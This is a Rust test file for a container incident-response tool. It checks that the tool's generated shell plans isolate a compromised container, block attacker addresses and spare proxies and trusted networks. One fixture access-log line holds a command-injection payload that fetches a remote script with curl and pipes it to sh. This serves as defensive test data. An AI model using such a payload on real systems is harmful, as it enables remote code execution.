//! The response plan through the binary, on evidence built in code: each runtime's own CLI
//! (a Podman capture, a containerd one through nerdctl), the veth step checked against the
//! host's `ip link` capture and refusing at run time anything but the container's veth (run
//! against a stand-in `ip`), what is blocked (never a proxy or private sender, never a
//! `--trusted-net`), and `shellcheck` on every plan.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::util::{run, run_json, validate_against_schema, write_files};

/// `podman inspect` of a running container (libpod's own keys beside docker's).
const PODMAN_INSPECT: &str = r#"[
  {
    "Id": "edc329138e8f1039db90cdfb079b1ee150cad84b2742bf6df390ac114fe5d784",
    "Created": "2026-12-01T07:54:38.1Z",
    "Path": "httpd",
    "Args": ["-f", "-v", "-p", "8080", "-h", "/www"],
    "State": {"OciVersion": "1.0.2-dev", "Status": "running", "Running": true, "Paused": false, "Restarting": false,
              "OOMKilled": false, "Dead": false, "Pid": 575, "ConmonPid": 563, "ExitCode": 0, "Error": "",
              "StartedAt": "2026-12-01T07:54:38.2Z", "FinishedAt": "0001-01-01T00:00:00Z"},
    "Image": "4c0e11871395487de331df992ff82b2bf99a9ef0eda0a4ffd340b51a5ec6e940",
    "ImageName": "localhost/lab/shop-web:1.0",
    "OCIRuntime": "runc",
    "ConmonPidFile": "/run/containers/storage/overlay-containers/edc3/userdata/conmon.pid",
    "Name": "shop-web",
    "Driver": "overlay",
    "HostConfig": {"NetworkMode": "bridge", "Privileged": false},
    "Config": {"Hostname": "shop-web", "Image": "localhost/lab/shop-web:1.0", "Env": ["DB_PASSWORD=lab-only-secret"]},
    "NetworkSettings": {"Networks": {"podman": {"IPAddress": "10.88.0.2", "Gateway": "10.88.0.1"}}}
  }
]
"#;

/// `nerdctl inspect --mode dockercompat` of a container in containerd's `shop` namespace.
const NERDCTL_INSPECT: &str = r#"[
  {
    "Id": "7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a",
    "Created": "2026-12-01T08:00:00Z",
    "Path": "httpd",
    "Args": ["-f"],
    "State": {"Status": "running", "Running": true, "Paused": false, "Restarting": false, "Pid": 4242, "ExitCode": 0},
    "Image": "docker.io/lab/shop-web:1.0",
    "LogPath": "/var/lib/nerdctl/1935db59/containers/shop/7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a/7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a-json.log",
    "Name": "shop-web",
    "Driver": "overlayfs",
    "Platform": "linux",
    "Config": {"Hostname": "7e3a9b1c5d2f", "Image": "docker.io/lab/shop-web:1.0",
               "Labels": {"nerdctl/name": "shop-web", "nerdctl/networks": "[\"bridge\"]",
                          "nerdctl/state-dir": "/var/lib/nerdctl/1935db59/containers/shop/7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a"}},
    "NetworkSettings": {"IPAddress": "10.4.0.2", "Networks": {"bridge": {"IPAddress": "10.4.0.2"}}}
  }
]
"#;

/// A docker container on the default bridge.
const DOCKER_INSPECT: &str = r#"[
  {
    "Id": "4f2a9c1be0d3aa55e0f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b",
    "Name": "/shop-web",
    "State": {"Status": "running", "Running": true, "Pid": 4100, "StartedAt": "2026-11-27T10:00:00Z"},
    "HostConfig": {"NetworkMode": "bridge"},
    "Config": {"Hostname": "shop-web", "Image": "shop:1"},
    "NetworkSettings": {"Networks": {"bridge": {"IPAddress": "172.17.0.2", "Gateway": "172.17.0.1"}}}
  }
]
"#;

/// An nginx `main`-format access log behind a proxy at 10.0.0.5: its requests carry
/// `X-Forwarded-For`; one is a `;curl ...|sh` injection nothing shows worked.
const PROXIED_LOG: &str = "\
10.0.0.5 - - [27/Nov/2026:14:00:01 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0\" \"198.51.100.4\"
10.0.0.5 - - [27/Nov/2026:14:00:02 +0000] \"GET /cgi-bin/ping?host=127.0.0.1;curl%20http://203.0.113.9/x.sh|sh HTTP/1.1\" 200 40 \"-\" \"curl/8.0\" \"203.0.113.50\"
10.0.0.5 - - [27/Nov/2026:14:00:05 +0000] \"GET /index.html HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0\" \"192.0.2.77\"
";

/// The host's `ip -d -o link`: NIC, bridge, the container's veth (index 55, peer 54).
const HOST_LINKS: &str = "\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\\    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00 promiscuity 0 minmtu 0 maxmtu 0 addrgenmode eui64
2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP mode DEFAULT group default qlen 1000\\    link/ether 52:54:00:12:34:56 brd ff:ff:ff:ff:ff:ff promiscuity 0 minmtu 68 maxmtu 65535 addrgenmode eui64
3: docker0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP mode DEFAULT group default\\    link/ether 02:42:5e:11:22:33 brd ff:ff:ff:ff:ff:ff promiscuity 0 minmtu 68 maxmtu 65535 \\    bridge forward_delay 1500 hello_time 200
55: vethd673180@if54: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue master docker0 state UP mode DEFAULT group default\\    link/ether 42:c6:57:20:0d:00 brd ff:ff:ff:ff:ff:ff link-netnsid 0 promiscuity 1 minmtu 68 maxmtu 65535 \\    veth \\    bridge_slave state forwarding
";

/// The container's namespace through nsenter: its eth0 is index 54, its peer index 55.
const CONTAINER_LINKS: &str = "\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\\    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00 promiscuity 0 minmtu 0 maxmtu 0 addrgenmode eui64
54: eth0@if55: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP mode DEFAULT group default\\    link/ether 02:42:ac:11:00:02 brd ff:ff:ff:ff:ff:ff link-netnsid 0 promiscuity 0 minmtu 68 maxmtu 65535 \\    veth
";

/// A macvlan container: its eth0's parent is the host's NIC (index 2).
const MACVLAN_LINKS: &str = "\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\\    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00
10: eth0@if2: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP mode DEFAULT group default\\    link/ether ca:8b:cf:a7:0c:5a brd ff:ff:ff:ff:ff:ff link-netnsid 0 promiscuity 0 minmtu 68 maxmtu 65535 \\    macvlan mode bridge
";

fn bundle(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path(), files);
    dir
}

/// `ctriage plan DIR ARGS...` (checked to exit 0 and to equal `scan -f sh` with the same
/// arguments) and the JSON plan's steps.
fn plans(dir: &Path, args: &[&str]) -> (String, Vec<Value>) {
    let d = dir.to_str().unwrap();
    let mut a = vec!["plan", d, "-q"];
    a.extend(args);
    let out = run(&a);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let sh = String::from_utf8(out.stdout).unwrap();
    let mut s = vec!["scan", d, "-f", "sh", "-q"];
    s.extend(args);
    assert_eq!(String::from_utf8(run(&s).stdout).unwrap(), sh, "plan and scan -f sh agree");
    let mut j = vec!["plan", d, "-q", "-f", "json"];
    j.extend(args);
    let v: Value = serde_json::from_slice(&run(&j).stdout).unwrap();
    (sh, v["plans"][0]["response_plan"].as_array().unwrap().clone())
}

/// The plan's code lines (not comments).
fn code(sh: &str) -> Vec<&str> {
    sh.lines().filter(|l| !l.starts_with('#') && !l.trim().is_empty()).collect()
}

fn step<'a>(steps: &'a [Value], title: &str) -> &'a Value {
    steps
        .iter()
        .find(|s| s["step"].as_str().unwrap().starts_with(title))
        .unwrap_or_else(|| panic!("no step {title:?} in {steps:#?}"))
}

fn commands(s: &Value) -> Vec<&str> {
    s["commands"].as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect()
}

#[test]
fn a_podman_capture_gets_podman_commands_and_no_docker_ones() {
    let ps = "CONTAINER ID  IMAGE  COMMAND  CREATED  STATUS  PORTS  NAMES\n\
              edc329138e8f1039db90cdfb079b1ee150cad84b2742bf6df390ac114fe5d784  localhost/lab/shop-web:1.0  httpd -f  7 seconds ago  Up 8 seconds ago    shop-web\n";
    let dir = bundle(&[("inspect.json", PODMAN_INSPECT.as_bytes()), ("podman-ps.txt", ps.as_bytes())]);
    let (sh, steps) = plans(dir.path(), &[]);
    let lines = code(&sh);
    assert!(!lines.iter().any(|l| l.contains("docker")), "a Podman capture, Podman's CLI:\n{sh}");
    for want in [
        "podman pause shop-web",
        "podman network disconnect podman shop-web",
        "podman kill -s KILL shop-web",
        "podman logs -t shop-web > shop-web.logs.txt 2>&1",
        "nsenter -t \"$(podman inspect -f '{{.State.Pid}}' shop-web)\" -n ip -o link show eth0 > shop-web.link",
    ] {
        assert!(lines.contains(&want), "{want}:\n{sh}");
    }
    assert!(commands(step(&steps, "Preserve shop-web"))[0].starts_with("podman commit edc329138e8f"));
    // The hunt looks where Podman keeps its containers' logs.
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "-q"]);
    assert_eq!(v["bundles"][0]["containers"][0]["source"], "podman");
    validate_against_schema(&v);
}

#[test]
fn a_containerd_capture_gets_nerdctl_in_its_namespace() {
    let dir = bundle(&[("inspect.json", NERDCTL_INSPECT.as_bytes())]);
    let (sh, steps) = plans(dir.path(), &[]);
    let lines = code(&sh);
    assert!(!lines.iter().any(|l| l.contains("docker")), "{sh}");
    let id = "7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a";
    for want in [
        format!("nerdctl -n shop pause {id}"),
        format!("nerdctl -n shop kill -s KILL {id}"),
        format!("nerdctl -n shop logs -t {id} > shop-web.logs.txt 2>&1"),
    ] {
        assert!(lines.contains(&want.as_str()), "{want}:\n{sh}");
    }
    assert!(
        commands(step(&steps, "Preserve shop-web"))[0].starts_with(&format!("nerdctl -n shop commit {id}"))
    );
    // nerdctl has no `network disconnect`: the checked veth is the cut.
    assert!(!steps.iter().any(|s| s["step"].as_str().unwrap().starts_with("Disconnect")));
    let veth = step(&steps, "Take shop-web's host-side veth down");
    assert!(
        veth["why"].as_str().unwrap().contains("cannot disconnect a container from its networks"),
        "{veth}"
    );
}

#[test]
fn a_proxy_sender_is_never_dropped_but_its_payload_server_is() {
    let dir =
        bundle(&[("inspect.json", DOCKER_INSPECT.as_bytes()), ("logs/access.log", PROXIED_LOG.as_bytes())]);
    let (sh, steps) = plans(dir.path(), &[]);
    assert!(!sh.contains("-s 10.0.0.5") && !sh.contains("-d 10.0.0.5"), "the proxy is never dropped:\n{sh}");
    assert_eq!(
        commands(step(&steps, "Block the attacker's addresses")),
        ["iptables -I DOCKER-USER -d 203.0.113.9 -j DROP", "iptables -I DOCKER-USER -s 203.0.113.9 -j DROP"]
    );
    let relay = step(&steps, "Find who is behind the relaying and private addresses");
    let why = relay["why"].as_str().unwrap();
    assert!(why.contains("10.0.0.5 relayed it: check your proxy logs for the real client"), "{why}");
    assert!(why.contains("X-Forwarded-For 203.0.113.50 (set by the client, may be forged)"), "{why}");
    assert_eq!(commands(relay), ["ip neigh show to 10.0.0.5"]);
    // The forwarded-for value is kept with the request.
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "-q"]);
    let hits = v["bundles"][0]["log_hits"].as_array().unwrap();
    assert!(hits.iter().any(|h| h["http"]["forwarded_for"] == "203.0.113.50"), "{hits:#?}");
    let hosts = v["bundles"][0]["hosts"].as_array().unwrap();
    let proxy = hosts.iter().find(|h| h["value"] == "10.0.0.5").unwrap();
    assert_eq!(proxy["acts"], serde_json::json!(["sent-unconfirmed"]));
    validate_against_schema(&v);
}

#[test]
fn a_trusted_net_is_never_blocked() {
    let dir =
        bundle(&[("inspect.json", DOCKER_INSPECT.as_bytes()), ("logs/access.log", PROXIED_LOG.as_bytes())]);
    let (sh, steps) = plans(dir.path(), &["--trusted-net", "203.0.113.0/24", "--trusted-net", "fd00::/8"]);
    assert!(!sh.contains("DROP"), "nothing left to block:\n{sh}");
    // The proxy is a relay, the payload server trusted: nothing to hunt, and the plan says why.
    let left = step(&steps, "Leave the trusted addresses alone");
    assert_eq!(left["why"], "not blocked: 203.0.113.9 (in --trusted-net 203.0.113.0/24)");
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "-q", "--trusted-net", "203.0.113.0/24"]);
    assert_eq!(v["run"]["options"]["trusted_net"], "203.0.113.0/24");
    let out = run(&["plan", dir.path().to_str().unwrap(), "--trusted-net", "203.0.113.0/33"]);
    assert_eq!(out.status.code(), Some(64), "a bad CIDR is a usage error");
    assert!(String::from_utf8_lossy(&out.stderr).contains("the prefix length must be 0 to 32"));
}

#[test]
fn the_veth_is_checked_against_the_hosts_ip_link_capture() {
    let dir = bundle(&[
        ("inspect.json", DOCKER_INSPECT.as_bytes()),
        ("net/ip-link-host.txt", HOST_LINKS.as_bytes()),
        ("net/ip-link-container.txt", CONTAINER_LINKS.as_bytes()),
    ]);
    let (_, steps) = plans(dir.path(), &[]);
    let why = step(&steps, "Take shop-web's host-side veth down")["why"].as_str().unwrap().to_string();
    assert!(
        why.contains("checked against the host's capture: at capture time the container's eth0 (index 54, net/ip-link-container.txt:2) was the peer of the host's vethd673180 (index 55, a veth on docker0, net/ip-link-host.txt:4)"),
        "{why}"
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "-q"]);
    let b = &v["bundles"][0];
    let kinds: Vec<&str> =
        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds.iter().filter(|k| **k == "ip-link").count(), 2, "{kinds:?}");
    let links = b["ip_links"].as_array().unwrap();
    assert_eq!(links.iter().filter(|c| c["host"] == true).count(), 1);
    validate_against_schema(&v);

    // A macvlan container: the index it gives is the host's own NIC.
    let dir = bundle(&[
        ("inspect.json", DOCKER_INSPECT.as_bytes()),
        ("ip-link-host.txt", HOST_LINKS.as_bytes()),
        ("ip-link-container.txt", MACVLAN_LINKS.as_bytes()),
    ]);
    let (_, steps) = plans(dir.path(), &[]);
    let why = step(&steps, "Take shop-web's host-side veth down")["why"].as_str().unwrap().to_string();
    assert!(why.contains("CAUTION: at capture time host index 2"), "{why}");
    assert!(why.contains("was eth0 (ip-link-host.txt:2): no veth"), "{why}");
}

/// A stand-in for `ip` that prints `LINKS` for `ip -d -o link` and records every other call.
fn fake_ip(dir: &Path) {
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let script = "#!/bin/sh\n\
                  case \"$*\" in\n\
                  \x20 '-d -o link') cat \"$LINKS\" ;;\n\
                  \x20 *) printf '%s\\n' \"$*\" >> \"$CALLS\" ;;\n\
                  esac\n";
    let p = bin.join("ip");
    std::fs::write(&p, script).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

#[test]
fn the_veth_step_takes_down_only_the_containers_veth_when_it_runs() {
    let dir = bundle(&[("inspect.json", DOCKER_INSPECT.as_bytes())]);
    let (_, steps) = plans(dir.path(), &[]);
    let down = commands(step(&steps, "Take shop-web's host-side veth down")).join("\n");
    let work = tempfile::tempdir().unwrap();
    fake_ip(work.path());
    let path = format!("{}:{}", work.path().join("bin").display(), std::env::var("PATH").unwrap());
    // (host links, the container's eth0 index, its iflink) -> what is taken down.
    let cases: &[(&str, &str, &str, Option<&str>)] = &[
        (HOST_LINKS, "54", "55", Some("link set dev vethd673180 down")),
        // The index names the host's NIC (a macvlan container): refused.
        (HOST_LINKS, "10", "2", None),
        // A veth at that index whose peer is another container's eth0: refused.
        (HOST_LINKS, "60", "55", None),
        // Nothing recorded (nsenter failed): refused.
        (HOST_LINKS, "", "", None),
    ];
    for (links, ifindex, iflink, want) in cases {
        std::fs::write(work.path().join("links.txt"), links).unwrap();
        std::fs::write(work.path().join("shop-web.ifindex"), format!("{ifindex}\n")).unwrap();
        std::fs::write(work.path().join("shop-web.iflink"), format!("{iflink}\n")).unwrap();
        let _ = std::fs::remove_file(work.path().join("calls.txt"));
        let out = Command::new("sh")
            .arg("-c")
            .arg(&down)
            .current_dir(work.path())
            .env("PATH", &path)
            .env("LINKS", work.path().join("links.txt"))
            .env("CALLS", work.path().join("calls.txt"))
            .output()
            .unwrap();
        let calls = std::fs::read_to_string(work.path().join("calls.txt")).unwrap_or_default();
        let stderr = String::from_utf8_lossy(&out.stderr);
        match want {
            Some(w) => {
                assert!(calls.lines().next() == Some(*w), "{ifindex}/{iflink}: {calls:?} {stderr}");
                assert!(!stderr.contains("refused"), "{stderr}");
            }
            None => {
                assert!(!calls.contains("down"), "{ifindex}/{iflink}: nothing goes down: {calls:?}");
                assert!(stderr.contains("shop-web: refused"), "{ifindex}/{iflink}: {stderr}");
            }
        }
    }
}

/// Every plan above passes `sh -n` and `shellcheck`.
#[test]
#[ignore = "needs shellcheck (Debian package; .ci/run installs it)"]
fn every_runtimes_plan_passes_shellcheck() {
    let k8s = r#"[{"Id":"9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b","Name":"/k8s_app_web-7d9_shop_0a1b_0",
        "State":{"Running":true,"Pid":77},"HostConfig":{"NetworkMode":"container:1f2e3d4c5b6a"},
        "Config":{"Labels":{"io.kubernetes.pod.namespace":"shop","io.kubernetes.pod.name":"web-7d9"}}}]"#;
    let bundles = [
        bundle(&[("inspect.json", PODMAN_INSPECT.as_bytes())]),
        bundle(&[("inspect.json", NERDCTL_INSPECT.as_bytes())]),
        bundle(&[("inspect.json", DOCKER_INSPECT.as_bytes()), ("logs/access.log", PROXIED_LOG.as_bytes())]),
        bundle(&[
            ("inspect.json", DOCKER_INSPECT.as_bytes()),
            ("ip-link-host.txt", HOST_LINKS.as_bytes()),
            ("ip-link-container.txt", MACVLAN_LINKS.as_bytes()),
        ]),
        bundle(&[("inspect.json", k8s.as_bytes())]),
        bundle(&[(
            "node/var/log/pods/shop_web-7d9_0a1b/app/0.log",
            b"2026-11-27T14:00:00.123456789Z stdout F GET /\n",
        )]),
    ];
    let out = tempfile::tempdir().unwrap();
    for (i, b) in bundles.iter().enumerate() {
        let (sh, _) = plans(b.path(), &["--trusted-net", "192.0.2.0/24"]);
        let path = out.path().join(format!("plan{i}.sh"));
        std::fs::write(&path, &sh).unwrap();
        let n = Command::new("sh").arg("-n").arg(&path).output().unwrap();
        assert!(n.status.success(), "plan {i}: sh -n: {}", String::from_utf8_lossy(&n.stderr));
        let sc = Command::new("shellcheck")
            .args(["-s", "sh", path.to_str().unwrap()])
            .output()
            .expect("shellcheck not found: install it (Debian package shellcheck)");
        assert!(sc.status.success(), "plan {i}: shellcheck:\n{}\n{sh}", String::from_utf8_lossy(&sc.stdout));
    }
}
